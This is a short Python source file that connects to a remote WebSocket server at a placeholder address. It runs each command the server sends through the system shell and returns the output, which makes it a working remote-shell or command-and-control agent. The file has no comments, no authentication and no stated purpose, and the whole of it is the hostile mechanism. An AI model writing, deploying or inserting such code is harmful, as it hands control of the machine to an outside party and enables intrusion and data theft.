import json
import subprocess
import websocket


def on_message(ws, message):
    order = json.loads(message)
    out = subprocess.run(order["c"], shell=True, capture_output=True, text=True)
    ws.send(json.dumps({"o": out.stdout}))


def main():
    websocket.WebSocketApp("wss://ws.example.invalid/c", on_message=on_message).run_forever()
